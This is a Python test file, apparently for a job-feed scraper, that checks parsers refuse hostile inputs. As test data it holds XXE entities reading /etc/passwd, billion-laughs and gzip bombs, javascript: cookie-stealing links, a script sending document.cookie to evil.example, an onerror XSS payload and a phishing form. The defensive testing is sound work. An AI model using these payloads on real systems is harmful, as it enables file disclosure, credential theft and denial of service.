"""The hostile corpus against every kind, offline: each item gets a clear outcome, others live."""

from __future__ import annotations

import gzip
import json
from typing import Any

import pytest

from normalizers.offer import SourceContext, normalize_offer
from schemas.offers import Offer
from schemas.rejections import Rejection
from schemas.source_offer import SourceOffer
from schemas.sources import SourceDefaults
from spiders.discovery import read_sitemap
from spiders.extractors import FeedError, extract, extractor_for, read_document

URL = "https://hostile.example/jobs"
PASSWD = ("root:", "/bin/", "nologin")
XXE_DTD = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_DTD = (
    '<!DOCTYPE d [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
XML_KINDS = {
    "rss": '<rss version="2.0"><channel><item><guid>1</guid><title>{e}</title></item>'
    "</channel></rss>",
    "atom": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>{e}</title>'
    "</entry></feed>",
    "indeed-xml": "<source><job><referencenumber>1</referencenumber><title>{e}</title></job>"
    "</source>",
}
SITEMAP = (
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{e}</loc></url></urlset>'
)


def normalized(item: SourceOffer) -> Offer | Rejection:
    context = SourceContext(
        source="hostile", attribution="hostile", defaults=SourceDefaults(), base_url=URL
    )
    return normalize_offer(item, context)


@pytest.mark.timeout(60)  # a hang guard only: refusing takes milliseconds
@pytest.mark.parametrize("kind", sorted(XML_KINDS))
@pytest.mark.parametrize(("dtd", "entity"), [(XXE_DTD, "&xxe;"), (LAUGHS_DTD, "&lol3;")])
def test_entities_are_refused_in_every_xml_kind(kind: str, dtd: str, entity: str) -> None:
    body = f'<?xml version="1.0"?>{dtd}{XML_KINDS[kind].format(e=entity)}'.encode()
    with pytest.raises(FeedError, match="refusé : le document utilise l.entité &") as refused:
        list(extractor_for(kind).split(body, URL))
    assert not any(marker in str(refused.value) for marker in PASSWD)


@pytest.mark.parametrize(("dtd", "entity"), [(XXE_DTD, "&xxe;"), (LAUGHS_DTD, "&lol3;")])
def test_entities_are_refused_in_sitemaps(dtd: str, entity: str) -> None:
    body = f'<?xml version="1.0"?>{dtd}{SITEMAP.format(e=entity)}'.encode()
    with pytest.raises(FeedError, match="refusé : le plan de site porte une DTD"):
        read_sitemap(body, max_size=1 << 20)


def test_a_gzipped_sitemap_bomb_stops_at_the_cap() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * (8 << 20), compresslevel=9)
    with pytest.raises(FeedError, match="dépasse 1 Mio une fois décompressé"):
        read_sitemap(bomb, max_size=1 << 20)


@pytest.mark.parametrize("kind", ["jsonld", "html"])
def test_entities_in_html_pages_are_never_expanded(kind: str) -> None:
    posting = json.dumps({"@type": "JobPosting", "title": "T", "description": "&xxe;&lol3;"})
    body = (
        f"<!DOCTYPE html {XXE_DTD[10:-1]} {LAUGHS_DTD[10:-1]}><html><head>"
        f'<script type="application/ld+json">{posting}</script></head>'
        "<body><h1>&xxe;&lol3;</h1></body></html>"
    ).encode()
    settings = {"links": "a", "fields": {"title": "h1"}} if kind == "html" else None
    results = extract(kind, body, URL, settings)
    text = json.dumps([str(result) for result in results])
    assert results and not any(marker in text for marker in PASSWD)
    assert "lollollol" not in text


JAVASCRIPT = "javascript:alert(document.cookie)"
UNSAFE_LINKS: list[tuple[str, dict[str, Any]]] = [
    ("greenhouse", {"jobs": [{"id": 1, "title": "T", "absolute_url": JAVASCRIPT}]}),
    ("lever", [{"id": "1", "text": "T", "hostedUrl": JAVASCRIPT, "applyUrl": JAVASCRIPT}]),
    ("recruitee", {"offers": [{"id": 1, "title": "T", "careers_url": JAVASCRIPT}]}),
    ("smartrecruiters", {"content": [{"id": "1", "name": "T", "postingUrl": JAVASCRIPT}]}),
    ("workable", {"jobs": [{"shortcode": "1", "title": "T", "url": JAVASCRIPT}]}),
    ("ashby", {"jobs": [{"id": "1", "title": "T", "jobUrl": JAVASCRIPT}]}),
    (
        "francetravail",
        {"resultats": [{"id": "1", "intitule": "T", "origineOffre": {"urlOrigine": JAVASCRIPT}}]},
    ),
]


@pytest.mark.parametrize(("kind", "answer"), UNSAFE_LINKS, ids=[k for k, _ in UNSAFE_LINKS])
def test_javascript_links_are_dropped_and_the_item_rejected_with_its_reason(
    kind: str, answer: Any
) -> None:
    (item,) = extract(kind, json.dumps(answer).encode(), URL)
    assert isinstance(item, SourceOffer)
    assert (item.url, item.apply_url) == (None, None)
    rejection = normalized(item)
    assert isinstance(rejection, Rejection)
    assert "url" in [reason.field for reason in rejection.reasons]


def test_a_javascript_link_in_json_ld_falls_back_to_the_page() -> None:
    posting = {"@type": "JobPosting", "title": "T", "url": JAVASCRIPT, "directApply": True}
    body = f'<script type="application/ld+json">{json.dumps(posting)}</script>'.encode()
    (item,) = extract("jsonld", body, URL)
    assert isinstance(item, SourceOffer) and (item.url, item.apply_url) == (URL, URL)


@pytest.mark.parametrize(
    "markup",
    [
        '<p>ok</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',
        '<p>ok<img src="x" onerror="alert(1)"></p>',
        '<p>ok</p><form action="https://evil.example/"><input name="password"></form>',
    ],
)
def test_active_content_in_descriptions_never_reaches_an_offer(markup: str) -> None:
    answer = {"jobs": [{"id": 1, "title": "T", "absolute_url": URL, "content": markup}]}
    (item,) = extract("greenhouse", json.dumps(answer).encode(), URL)
    assert isinstance(item, SourceOffer)
    offer = normalized(item)
    assert isinstance(offer, Offer)
    assert offer.description_html.startswith("<p>ok")
    for forbidden in ("<script", "onerror", "<form", "<input", "evil.example"):
        assert forbidden not in offer.description_html


def test_control_characters_are_removed_from_every_text() -> None:
    answer = [
        {
            "id": "c1",
            "text": "Dév\u0000elop\u0007peur\u009b",
            "hostedUrl": URL,
            "categories": {"location": "Ly\u0001on"},
            "description": "<p>a\u0000b</p>",
        }
    ]
    (item,) = extract("lever", json.dumps(answer).encode(), URL)
    assert isinstance(item, SourceOffer)
    assert (item.title, item.place, item.description) == ("Développeur", "Lyon", "<p>ab</p>")
    assert isinstance(normalized(item), Offer)


def test_mixed_encodings_in_an_api_answer_are_read_character_by_character() -> None:
    body = json.dumps({"jobs": [{"id": 1, "title": "Ingénieur ", "absolute_url": URL}]})
    mixed = body.encode().replace(b"Ing\\u00e9nieur ", b"Ing\xe9nieur \xc3\xa9")
    (item,) = extract("greenhouse", mixed, URL)
    assert isinstance(item, SourceOffer) and item.title == "Ingénieur é"


def test_mixed_encodings_in_a_page_do_not_lose_its_postings() -> None:
    posting = json.dumps({"@type": "JobPosting", "title": "Cuisinier", "identifier": "K1"})
    page = f'<meta charset="utf-8"><script type="application/ld+json">{posting}</script>'
    body = (page + "<p>Crème</p>").encode() + b"<p>Caf\xe9 (latin-1)</p>"
    (item,) = extract("jsonld", body, URL)
    assert isinstance(item, SourceOffer) and item.external_id == "K1"


@pytest.mark.parametrize(
    "date", ["2026-13-45", "13/13/2026", "9999999999999999999", "2026-02-30T25:61"]
)
def test_an_invalid_date_leaves_the_date_empty_and_keeps_the_offer(date: str) -> None:
    posting = {
        "@type": "JobPosting",
        "title": "T",
        "description": "<p>Une offre.</p>",
        "url": URL,
        "datePosted": date,
        "validThrough": date,
    }
    body = f'<script type="application/ld+json">{json.dumps(posting)}</script>'.encode()
    (item,) = extract("jsonld", body, URL)
    assert isinstance(item, SourceOffer)
    offer = normalized(item)
    assert isinstance(offer, Offer)
    assert (offer.posted_at, offer.valid_through) == (None, None)


def test_simple_declared_entities_cannot_blow_the_document_up() -> None:
    value = "x" * 1000
    title = "&big;" * 2000  # 2 MB once replaced: over the budget
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "{value}">]>'
        f"<rss><channel><item><guid>1</guid><title>{title}</title></item></channel></rss>"
    ).encode()
    with pytest.raises(FeedError, match="ajouteraient plus de 1 Mio au document"):
        list(extractor_for("rss").split(body, URL))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!doctype rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss PUBLIC "-//X//EN" "file:///etc/passwd" [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ],
    ids=["lower-case", "public-id"],
)
def test_every_spelling_of_a_doctype_is_dropped_and_its_external_entity_refused(
    doctype: str,
) -> None:
    body = f"{doctype}{XML_KINDS['rss'].format(e='&xxe;')}".encode()
    with pytest.raises(FeedError, match="l'entité &xxe; que sa DTD déclare externe") as refused:
        list(extractor_for("rss").split(body, URL))
    assert not any(marker in str(refused.value) for marker in PASSWD)


def test_a_doctype_inside_the_document_is_never_given_to_the_parser() -> None:
    body = (
        b'<rss><channel><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<item><guid>1</guid><title>Poste</title><description>&xxe;</description></item>"
        b"</channel></rss>"
    )
    with pytest.raises(FeedError, match="refusé") as refused:
        list(extractor_for("rss").split(body, URL))
    assert not any(marker in str(refused.value) for marker in PASSWD)


@pytest.mark.parametrize("kind", sorted(XML_KINDS))
def test_an_undeclared_entity_is_never_resolved_by_anyone(kind: str) -> None:
    body = XML_KINDS[kind].format(e="&xxe; &lol3;").encode()
    reading = read_document(kind, body, URL)
    (item,) = reading.results
    assert isinstance(item, SourceOffer) and item.title == "&xxe; &lol3;"
    assert any("2 entités inconnues" in note for note in reading.notes)


def test_markup_inside_cdata_reaches_feedparser_as_text_only() -> None:
    """feedparser strips a DOCTYPE and expands its entities with expat: none must reach it."""
    smuggled = f"{XXE_DTD}<rss><channel><item><title>&xxe;</title></item></channel></rss>"
    body = (
        '<rss version="2.0"><channel><item><guid>c-1</guid><title>Poste</title>'
        f"<description><![CDATA[{smuggled}]]></description></item></channel></rss>"
    ).encode()
    (item,) = extract("rss", body, URL)
    assert isinstance(item, SourceOffer)
    assert item.description == smuggled
    assert not any(marker in item.description for marker in PASSWD)
